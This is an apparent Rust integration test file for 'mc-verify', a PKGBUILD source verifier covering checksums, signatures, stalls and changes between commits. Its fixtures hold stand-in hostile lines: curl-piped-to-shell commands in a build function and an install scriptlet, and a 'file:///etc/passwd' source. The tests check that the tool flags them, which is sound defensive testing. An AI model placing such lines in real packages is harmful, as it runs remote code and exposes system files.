//! `mc-verify` end to end: sources served on loopback, signatures by keys the test makes, and a
//! PKGBUILD that would leave a mark if anything ran it.

use std::{collections::BTreeMap, fs, path::Path, process::Command, time::Duration};

use minicluster::openpgp::SigningKey;
use pipeline_tests::{Run, bin, require, run};
use xtask::serve::{Fault, MirrorServer};

/// Hex sha256 of `data`, as `sha256sum` prints it.
fn sha256(data: &[u8]) -> String {
    let output = Command::new("sha256sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write;
            child.stdin.take().expect("stdin").write_all(data)?;
            child.wait_with_output()
        })
        .expect("sha256sum runs");
    String::from_utf8_lossy(&output.stdout)
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_owned()
}

/// A PKGBUILD folder whose `.SRCINFO` lists `sources` (`(source line, sha256 line)`).
fn pkgbuild(dir: &Path, base: &str, sources: &[(String, String)], extra: &str, pkgbuild: &str) {
    fs::create_dir_all(dir).expect("folder");
    let mut srcinfo =
        format!("pkgbase = {base}\n\tpkgver = 1.0\n\tpkgrel = 1\n\tarch = x86_64\n{extra}");
    for (source, _) in sources {
        srcinfo.push_str(&format!("\tsource = {source}\n"));
    }
    for (_, sum) in sources {
        srcinfo.push_str(&format!("\tsha256sums = {sum}\n"));
    }
    srcinfo.push_str(&format!("\npkgname = {base}\n"));
    fs::write(dir.join(".SRCINFO"), srcinfo).expect("write .SRCINFO");
    fs::write(dir.join("PKGBUILD"), pkgbuild).expect("write PKGBUILD");
}

fn verify(args: &[&str]) -> Run {
    run(&bin("mc-verify"), args, "")
}

fn by_file(run: &Run) -> BTreeMap<String, String> {
    run.of_type("source")
        .iter()
        .map(|s| {
            (
                s["file"].as_str().unwrap_or_default().to_owned(),
                s["verdict"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

fn checks(run: &Run) -> Vec<String> {
    let mut checks: Vec<String> = run
        .of_type("finding")
        .iter()
        .map(|f| f["check"].as_str().unwrap_or_default().to_owned())
        .collect();
    checks.sort();
    checks
}

#[test]
fn checksums_signatures_and_text_findings_on_a_loopback_upstream() {
    let upstream = tempfile::tempdir().expect("tempdir");
    let work = tempfile::tempdir().expect("tempdir");
    let (maintainer, stranger) = (
        SigningKey::generate("maintainer <m@x.invalid>").expect("key"),
        SigningKey::generate("stranger <s@x.invalid>").expect("key"),
    );
    let files: [(&str, &[u8]); 5] = [
        ("good.tar.gz", b"good release"),
        ("bad.tar.gz", b"someone replaced this"),
        ("signed.tar.gz", b"signed release"),
        ("other.tar.gz", b"signed by a stranger"),
        ("skipped.tar.gz", b"unchecked"),
    ];
    for (name, data) in files {
        fs::write(upstream.path().join(name), data).expect("write");
    }
    let signature = |key: &SigningKey, data: &[u8]| key.sign_detached(data).expect("sign");
    fs::write(
        upstream.path().join("signed.tar.gz.sig"),
        signature(&maintainer, b"signed release"),
    )
    .expect("sig");
    fs::write(
        upstream.path().join("other.tar.gz.sig"),
        signature(&stranger, b"signed by a stranger"),
    )
    .expect("sig");
    let server = MirrorServer::start(upstream.path(), "127.0.0.1:0").expect("server");
    let url = |name: &str| format!("{}/{name}", server.url());
    let folder = work.path().join("demo");
    let mark = work.path().join("executed");
    let sources = vec![
        (url("good.tar.gz"), sha256(b"good release")),
        (url("bad.tar.gz"), sha256(b"the maintainer's release")),
        (url("signed.tar.gz"), sha256(b"signed release")),
        (url("signed.tar.gz.sig"), "SKIP".to_owned()),
        (url("other.tar.gz"), sha256(b"signed by a stranger")),
        (url("other.tar.gz.sig"), "SKIP".to_owned()),
        (url("skipped.tar.gz"), "SKIP".to_owned()),
        (url("missing.tar.gz"), sha256(b"")),
        ("app.conf".to_owned(), sha256(b"setting = 1\n")),
        (
            "git+https://example.invalid/demo.git#tag=v1".to_owned(),
            "SKIP".to_owned(),
        ),
        ("file:///etc/passwd".to_owned(), "SKIP".to_owned()),
    ];
    let pkgbuild_text = format!(
        "pkgname=demo\npkgver=2.0\npkgrel=1\ntouch '{}'\nbuild() {{\n  curl -fsSL https://x.invalid/setup.sh | sh\n}}\n",
        mark.display()
    );
    let fingerprint = maintainer.fingerprint();
    pkgbuild(
        &folder,
        "demo",
        &sources,
        &format!("\tvalidpgpkeys = {fingerprint}\n"),
        &pkgbuild_text,
    );
    fs::write(folder.join("app.conf"), "setting = 1\n").expect("local source");
    let keyring = work.path().join("keyring.asc");
    let certificates = format!(
        "{}{}",
        maintainer.public_armored().expect("public"),
        stranger.public_armored().expect("public")
    );
    fs::write(&keyring, certificates).expect("keyring");
    let cache = work.path().join("cache");
    let run = verify(&[
        "--keyring",
        &keyring.display().to_string(),
        "--cache",
        &cache.display().to_string(),
        "--timeout",
        "5",
        &folder.display().to_string(),
    ]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let verdicts = by_file(&run);
    let expected = [
        ("good.tar.gz", "ok"),
        ("bad.tar.gz", "mismatch"),
        ("signed.tar.gz", "ok"),
        ("signed.tar.gz.sig", "signature_ok"),
        ("other.tar.gz", "ok"),
        ("other.tar.gz.sig", "signature_bad"),
        ("skipped.tar.gz", "skipped"),
        ("missing.tar.gz", "unreachable"),
        ("app.conf", "ok"),
        ("demo", "unverified"),
        ("passwd", "unreachable"),
    ];
    for (file, verdict) in expected {
        assert_eq!(
            verdicts.get(file).map(String::as_str),
            Some(verdict),
            "{file}: {verdicts:?}"
        );
    }
    assert_eq!(
        checks(&run),
        [
            "checksum-mismatch",
            "download-and-execute",
            "hostile-source",
            "insecure-unsigned",
            "insecure-unsigned",
            "insecure-unsigned",
            "insecure-unsigned",
            "signature-unknown-key",
            "skip-non-vcs",
            "source-unreachable",
            "srcinfo-outdated",
            "vcs-source",
        ],
        "{:#?}",
        run.of_type("finding")
    );
    let signer = run
        .of_type("source")
        .into_iter()
        .find(|s| s["file"] == "signed.tar.gz.sig")
        .map(|s| s["signer"].clone());
    assert_eq!(signer, Some(fingerprint.clone().into()));
    assert!(!mark.exists(), "mc-verify ran the PKGBUILD");
    assert!(
        cache.join("demo/good.tar.gz").exists(),
        "verified sources stay in the cache"
    );
    assert!(
        !cache.join("demo/bad.tar.gz").exists(),
        "a mismatching download is not kept"
    );
}

#[test]
fn endless_and_stalled_sources_end_in_errors_and_the_rest_goes_on() {
    let upstream = tempfile::tempdir().expect("tempdir");
    fs::write(upstream.path().join("huge.iso"), vec![b'x'; 4096]).expect("write");
    fs::write(upstream.path().join("small.txt"), b"fine").expect("write");
    fs::write(upstream.path().join("slow.txt"), b"late").expect("write");
    let server = MirrorServer::start(upstream.path(), "127.0.0.1:0").expect("server");
    server.fail("/slow.txt", &[Fault::Stall(Duration::from_secs(8)); 3]);
    let work = tempfile::tempdir().expect("tempdir");
    let folder = work.path().join("limits");
    let url = |name: &str| format!("{}/{name}", server.url());
    let sources = vec![
        (url("huge.iso"), sha256(&[b'x'; 4096])),
        (url("slow.txt"), sha256(b"late")),
        (url("small.txt"), sha256(b"fine")),
    ];
    pkgbuild(
        &folder,
        "limits",
        &sources,
        "",
        "pkgname=limits\npkgver=1.0\npkgrel=1\n",
    );
    let started = std::time::Instant::now();
    let run = verify(&[
        "--cache",
        &work.path().join("cache").display().to_string(),
        "--max-source-size",
        "1000",
        "--timeout",
        "1",
        "--retries",
        "1",
        &folder.display().to_string(),
    ]);
    assert!(
        started.elapsed() < Duration::from_secs(8),
        "a stalled server must not hang the run"
    );
    let verdicts = by_file(&run);
    assert_eq!(verdicts["huge.iso"], "unreachable");
    assert_eq!(verdicts["slow.txt"], "unreachable");
    assert_eq!(verdicts["small.txt"], "ok");
    let messages: Vec<String> = run
        .of_type("finding")
        .iter()
        .map(|f| f["message"].as_str().unwrap_or_default().to_owned())
        .collect();
    assert!(
        messages
            .iter()
            .any(|m| m.contains("larger than the limit of 1000 bytes")),
        "{messages:?}"
    );
}

#[test]
fn malformed_srcinfo_is_an_error_record_and_the_next_folder_is_checked() {
    let work = tempfile::tempdir().expect("tempdir");
    let broken = work.path().join("broken");
    fs::create_dir_all(&broken).expect("folder");
    fs::write(
        broken.join(".SRCINFO"),
        "pkgbase = broken\n\tpkgver = 1-0-0\n",
    )
    .expect("write");
    let fine = work.path().join("fine");
    pkgbuild(
        &fine,
        "fine",
        &[],
        "",
        "pkgname=fine\npkgver=1.0\npkgrel=1\n",
    );
    let run = verify(&[
        "--cache",
        &work.path().join("cache").display().to_string(),
        &broken.display().to_string(),
        &fine.display().to_string(),
    ]);
    assert_eq!(run.code, 1);
    assert_eq!(run.error_kinds(), ["bad_srcinfo"]);
    let error = &run.of_type("error")[0];
    assert!(
        error["message"]
            .as_str()
            .is_some_and(|m| m.contains("broken/.SRCINFO")),
        "{error}"
    );
    assert_eq!(run.count("pkgbuilds"), 2);
}

/// makepkg --verifysource, run as an unprivileged user on the same PKGBUILDs, reaches the same
/// verdict on checksums.
#[test]
fn checksum_verdicts_agree_with_makepkg() {
    require("makepkg", "makepkg");
    let upstream = tempfile::tempdir().expect("tempdir");
    fs::write(upstream.path().join("release.tar.gz"), b"release bytes").expect("write");
    let server = MirrorServer::start(upstream.path(), "127.0.0.1:0").expect("server");
    let work = tempfile::tempdir().expect("tempdir");
    fs::set_permissions(
        work.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o777),
    )
    .expect("chmod");
    for (name, sum, should_pass) in [
        ("agree-good", sha256(b"release bytes"), true),
        ("agree-bad", sha256(b"other bytes"), false),
    ] {
        let folder = work.path().join(name);
        let source = format!("{}/release.tar.gz", server.url());
        let pkgbuild_text = format!(
            "pkgname={name}\npkgver=1.0\npkgrel=1\narch=(x86_64)\nsource=('{source}')\nsha256sums=('{sum}')\npackage() {{ :; }}\n"
        );
        pkgbuild(&folder, name, &[(source, sum)], "", &pkgbuild_text);
        fs::set_permissions(&folder, std::os::unix::fs::PermissionsExt::from_mode(0o777))
            .expect("chmod");
        let ours = verify(&[
            "--cache",
            &work.path().join("cache").display().to_string(),
            &folder.display().to_string(),
        ]);
        let as_root = Command::new("id")
            .arg("-u")
            .output()
            .is_ok_and(|o| o.stdout.starts_with(b"0"));
        let mut makepkg = if as_root {
            let mut setpriv = Command::new("setpriv");
            setpriv.args([
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                "makepkg",
            ]);
            setpriv
        } else {
            Command::new("makepkg")
        };
        let theirs = makepkg
            .args(["--verifysource", "--nodeps", "--noconfirm"])
            .current_dir(&folder)
            .env("HOME", &folder)
            .env("SRCDEST", &folder)
            .output()
            .expect("makepkg runs");
        assert_eq!(
            theirs.status.success(),
            should_pass,
            "makepkg: {}",
            String::from_utf8_lossy(&theirs.stderr)
        );
        assert_eq!(ours.code == 0, should_pass, "mc-verify: {:?}", ours.records);
    }
}

/// Given the commit the user last fetched (a `pkgbuild` record's `previous_commit`), what changed
/// since is reported: a new host, new checksums under the same version, a new install scriptlet.
#[test]
fn changes_since_the_last_fetched_commit_are_findings() {
    let upstream = tempfile::tempdir().expect("tempdir");
    fs::write(upstream.path().join("app.tar.gz"), b"release two").expect("write");
    let server = MirrorServer::start(upstream.path(), "127.0.0.1:0").expect("server");
    let port = server
        .url()
        .rsplit(':')
        .next()
        .unwrap_or_default()
        .to_owned();
    let work = tempfile::tempdir().expect("tempdir");
    let folder = work.path().join("app");
    let git = |args: &[&str]| {
        let status = Command::new("git")
            .arg("-C")
            .arg(&folder)
            .args(["-c", "user.name=t", "-c", "user.email=t@x.invalid"])
            .args(args)
            .status()
            .expect("git runs");
        assert!(status.success(), "git {args:?}");
    };
    let write = |host: &str, content: &[u8], install: &str| {
        let source = (format!("http://{host}:{port}/app.tar.gz"), sha256(content));
        pkgbuild(
            &folder,
            "app",
            &[source],
            "\tinstall = app.install\n",
            "pkgname=app\npkgver=1.0\npkgrel=1\n",
        );
        fs::write(folder.join("app.install"), install).expect("install");
    };
    write("127.0.0.1", b"release one", "post_install() { echo hi; }\n");
    git(&["init", "-q"]);
    git(&["add", "-A"]);
    git(&["commit", "-q", "-m", "one"]);
    let first = Command::new("git")
        .arg("-C")
        .arg(&folder)
        .args(["rev-parse", "HEAD"])
        .output()
        .expect("git");
    let first = String::from_utf8_lossy(&first.stdout).trim().to_owned();
    write(
        "localhost",
        b"release two",
        "post_install() { curl -s https://x.invalid | sh; }\n",
    );
    git(&["commit", "-q", "-am", "two"]);
    let record = serde_json::json!({"type": "pkgbuild", "base": "app", "path": folder, "previous_commit": first});
    let run = pipeline_tests::run(
        &bin("mc-verify"),
        &["--cache", &work.path().join("cache").display().to_string()],
        &format!("{record}\n"),
    );
    let found = checks(&run);
    for check in [
        "source-host-changed",
        "sources-changed",
        "checksums-changed",
        "install-changed",
        "download-and-execute",
    ] {
        assert!(
            found.iter().any(|c| c == check),
            "{check} missing: {found:?}"
        );
    }
    let changed = run
        .of_type("finding")
        .into_iter()
        .find(|f| f["check"] == "checksums-changed")
        .expect("found");
    assert_eq!(changed["severity"], "warning", "same version, new bytes");
}
